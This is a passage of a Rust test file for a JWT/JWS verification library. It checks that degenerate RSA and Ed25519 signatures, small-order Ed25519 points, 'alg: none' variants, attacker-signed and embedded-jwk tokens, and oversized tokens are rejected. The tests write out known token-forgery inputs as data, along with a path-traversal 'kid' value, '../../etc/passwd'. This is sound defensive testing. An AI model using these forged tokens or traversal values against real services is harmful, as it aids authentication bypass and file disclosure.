            ("2^2048 - 1", vec![0xff; size]),
            ("valid plus n", {
                let sum = BigUint::from_bytes_be(&sig) + &n;
                sum.to_bytes_be()
            }),
            ("255 bytes", sig[1..].to_vec()),
            ("257 bytes", [&[0], &sig[..]].concat()),
        ];
        for (what, bytes) in variants {
            cases.push(Case::decode(
                format!("{alg}: signature {what}"),
                keys(alg),
                format!("{h}.{p}.{}", B64.encode(bytes)),
                Expect::Is(Error::Signature),
            ));
        }
    }
    run("RSA degenerate signatures", &cases);
}

/// Ed25519's order L, little-endian (RFC 8032).
const ED25519_L: [u8; 32] = [
    0xed, 0xd3, 0xf5, 0x5c, 0x1a, 0x63, 0x12, 0x58, 0xd6, 0x9c, 0xf7, 0xa2, 0xde, 0xf9, 0xde, 0x14,
    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x10,
];

/// The encoding of the Ed25519 identity point (order 1).
const ED25519_IDENTITY: [u8; 32] = {
    let mut point = [0u8; 32];
    point[0] = 1;
    point
};

#[test]
fn eddsa_degenerate_signatures_are_signature() {
    let alg = Algorithm::EdDSA;
    let token = valid(alg);
    let (h, p, s) = split(&token);
    let sig = B64.decode(s).expect("b64");
    let (r, _) = sig.split_at(32);
    let mut high_s = sig.clone();
    high_s[63] |= 0xe0;
    let variants: Vec<(&str, Vec<u8>)> = vec![
        ("all zero", vec![0; 64]),
        (
            "R = identity, S = 0",
            [&ED25519_IDENTITY[..], &[0; 32]].concat(),
        ),
        ("valid R, S = 0", [r, &[0; 32]].concat()),
        ("valid R, S = L", [r, &ED25519_L].concat()),
        ("S with its top bits set", high_s),
        ("R and S swapped", [&sig[32..], r].concat()),
    ];
    let mut cases = Vec::new();
    for (what, bytes) in variants {
        for (target, check) in [
            ("Keys", decode_with(keys(alg))),
            (
                "verify-only Keys",
                decode_with(public_keys(alg).expect("public")),
            ),
            ("verify_compact", compact_with(alg)),
        ] {
            cases.push(Case::new(
                format!("EdDSA: {what} ({target})"),
                check,
                format!("{h}.{p}.{}", B64.encode(&bytes)),
                Expect::Is(Error::Signature),
            ));
        }
    }
    run("EdDSA degenerate signatures", &cases);
}

/// An Ed25519 signature whose `R` is a small-order point is `Signature`, as
/// under `ed25519_dalek`'s `verify_strict`, though plain RFC 8032
/// verification (`ed25519_dalek::Verifier::verify`) accepts it. Only the
/// private-key holder can make one (here: `R` = identity, `S = k·a mod L`),
/// so it is not a forgery, but strict verifiers reject it and so does
/// `claims`.
#[test]
fn eddsa_signature_with_a_small_order_r_is_signature() {
    let alg = Algorithm::EdDSA;
    let h = B64.encode(header(alg).text());
    let p = B64.encode(claims().text());
    let input = format!("{h}.{p}");
    let key = &ours().ed25519;
    let public = key.verifying_key();

    // a: the clamped secret scalar; k = SHA-512(R || A || M) mod L; S = k·a mod L.
    let expanded = Sha512::digest(key.to_bytes());
    let mut scalar = [0u8; 32];
    scalar.copy_from_slice(&expanded[..32]);
    scalar[0] &= 0xf8;
    scalar[31] &= 0x7f;
    scalar[31] |= 0x40;
    let order = BigUint::from_bytes_le(&ED25519_L);
    let k = BigUint::from_bytes_le(
        &Sha512::new()
            .chain_update(ED25519_IDENTITY)
            .chain_update(public.to_bytes())
            .chain_update(input.as_bytes())
            .finalize(),
    ) % &order;
    let s = (k * BigUint::from_bytes_le(&scalar)) % &order;
    let mut s_bytes = s.to_bytes_le();
    s_bytes.resize(32, 0);
    let signature = [&ED25519_IDENTITY[..], &s_bytes].concat();

    // Preconditions: RFC 8032 verification accepts it, strict verification does not.
    let parsed = ed25519_dalek::Signature::from_slice(&signature).expect("64 bytes");
    assert!(ed25519_dalek::Verifier::verify(&public, input.as_bytes(), &parsed).is_ok());
    assert!(public.verify_strict(input.as_bytes(), &parsed).is_err());

    let token = format!("{input}.{}", B64.encode(&signature));
    let cases = vec![
        Case::decode(
            "EdDSA: small-order R",
            keys(alg),
            token.clone(),
            Expect::Is(Error::Signature),
        ),
        Case::new(
            "EdDSA: small-order R (verify_compact)",
            compact_with(alg),
            token,
            Expect::Is(Error::Signature),
        ),
    ];
    run("Ed25519 small-order R", &cases);
}

// --- size ---------------------------------------------------------------------------------

/// A megabyte is refused on its length alone: the same megabyte of
/// characters base64 cannot decode is `TooLarge` under the default cap, and
/// only under a raised cap does it reach the parser (and become `Malformed`).
#[test]
fn a_megabyte_token_is_too_large_before_any_parsing() {
    let too_large = |len: usize| {
        Expect::Is(Error::TooLarge {
            len,
            max: DEFAULT_CAP,
        })
    };
    let garbage = [
        ("'!' (not base64)", "!".repeat(MIB)),
        ("'.' (a million segments)", ".".repeat(MIB)),
        ("NUL bytes", "\0".repeat(MIB)),
        ("'é' (two bytes each)", "é".repeat(MIB / 2)),
        ("'A' (valid base64, no dots)", "A".repeat(MIB)),
    ];
    let mut cases = Vec::new();
    for alg in Algorithm::ALL {
        for (what, text) in &garbage {
            assert_eq!(text.len(), MIB);
            cases.push(Case::decode(
                format!("{alg}: 1 MiB of {what}"),
                keys(alg),
                text.clone(),
                too_large(MIB),
            ));
            cases.push(Case::new(
                format!("{alg}: 1 MiB of {what} (verify_compact)"),
                compact_with(alg),
                text.clone(),
                too_large(MIB),
            ));
        }
        // The same garbage reaches the parser only under a raised cap.
        cases.push(Case::decode(
            format!("{alg}: 1 MiB of '!', 4 MiB cap"),
            roomy(alg),
            "!".repeat(MIB),
            Expect::Malformed,
        ));
        // A validly signed megabyte token: too large, and fine under the raised cap.
        let big = forge(
            alg,
            &header(alg),
            &claims().push("x-pad", q(&"p".repeat(MIB))),
        );
        assert!(big.len() > MIB);
        cases.push(Case::decode(
            format!("{alg}: validly signed 1 MiB token"),
            keys(alg),
            big.clone(),
            too_large(big.len()),
        ));
        cases.push(Case::decode(
            format!("{alg}: validly signed 1 MiB token, 4 MiB cap"),
            roomy(alg),
            big,
            Expect::Accepted,
        ));
        // The boundary: one byte over is refused unparsed, at the cap it is parsed.
        cases.push(Case::decode(
            format!("{alg}: cap + 1 bytes of '!'"),
            keys(alg),
            "!".repeat(DEFAULT_CAP + 1),
            too_large(DEFAULT_CAP + 1),
        ));
        cases.push(Case::decode(
            format!("{alg}: cap bytes of '!'"),
            keys(alg),
            "!".repeat(DEFAULT_CAP),
            Expect::Malformed,
        ));
    }
    run("size", &cases);
}

// --- verify_compact -----------------------------------------------------------------------

/// `verify_compact` checks size, shape, `alg`, `crit` and the signature, and
/// leaves `typ`, `kid` and the payload to its caller.
#[test]
#[allow(clippy::too_many_lines)] // a table of cases
fn verify_compact_refuses_hostile_jws_and_leaves_typ_and_kid_to_the_caller() {
    let mut cases = Vec::new();
    for alg in Algorithm::ALL {
        let compact = |what: &str, token: String, expect: Expect| {
            Case::new(format!("{alg}: {what}"), compact_with(alg), token, expect)
        };
        let token = valid(alg);
        let (h, p, s) = split(&token);
        for none in ["none", "None", "NONE", "nOnE"] {
            for sig in ["", s] {
                cases.push(compact(
                    &format!("alg {none}, signature {}", sig.len()),
                    format!(
                        "{}.{p}.{sig}",
                        B64.encode(header(alg).set("alg", q(none)).text())
                    ),
                    Expect::Is(Error::Algorithm),
                ));
            }
        }
        cases.push(compact(
            "alg missing",
            forge(alg, &header(alg).without("alg"), &claims()),
            Expect::Is(Error::Algorithm),
        ));
        for other in Algorithm::ALL.into_iter().filter(|o| *o != alg) {
            cases.push(compact(
                &format!("a {other} token"),
                valid(other),
                Expect::Is(Error::Algorithm),
            ));
        }
        cases.push(compact(
            "crit",
            forge(
                alg,
                &header(alg).push("crit", r#"["exp"]"#).push("exp", "1"),
                &claims(),
            ),
            Expect::Is(Error::CriticalHeader),
        ));
        cases.push(compact(
            "duplicate alg",
            forge(alg, &header(alg).push("alg", q("none")), &claims()),
            Expect::Malformed,
        ));
        cases.push(compact(
            "two segments",
            format!("{h}.{p}"),
            Expect::Malformed,
        ));
        cases.push(compact(
            "padded signature",
            format!("{token}="),
            Expect::Malformed,
        ));
        cases.push(compact(
            "attacker signature",
            forge_by(attackers(), alg, &header(alg).text(), &claims().text()),
            Expect::Is(Error::Signature),
        ));
        cases.push(compact(
            "embedded jwk, attacker signature",
            forge_by(
                attackers(),
                alg,
                &header(alg)
                    .push("jwk", attackers().jwk(alg).to_string())
                    .text(),
                &claims().text(),
            ),
            Expect::Is(Error::Signature),
        ));
        // Not its business: any kid, any typ, any payload bytes.
        cases.push(compact(
            "unknown kid, valid signature",
            forge(
                alg,
                &header(alg).set("kid", q("../../etc/passwd")),
                &claims(),
            ),
            Expect::Accepted,
        ));
        cases.push(compact(
            "typ at+jwt, no kid",
            forge(
                alg,
                &header(alg).set("typ", q("at+jwt")).without("kid"),
                &claims(),
            ),
            Expect::Accepted,
        ));
        cases.push(compact(
            "a payload that is not JSON",
            forge_by(ours(), alg, &header(alg).text(), "not JSON"),
            Expect::Accepted,
        ));
    }
    run("verify_compact", &cases);

    // What it returns is the payload, byte for byte.
    for alg in Algorithm::ALL {
        let payload = claims().push("x", q("y")).text();
        let token = forge_by(ours(), alg, &header(alg).text(), &payload);
        let key = compact_with(alg);
        assert_eq!(key(&token), Ok(()));
        let bytes = match verifying_key(alg) {
            Some(public) => public.verify_compact(&token),
            None => ours().signing_key(alg, KID).verify_compact(&token),
        };
        assert_eq!(bytes.expect("verifies"), payload.as_bytes(), "{alg}");
    }
}
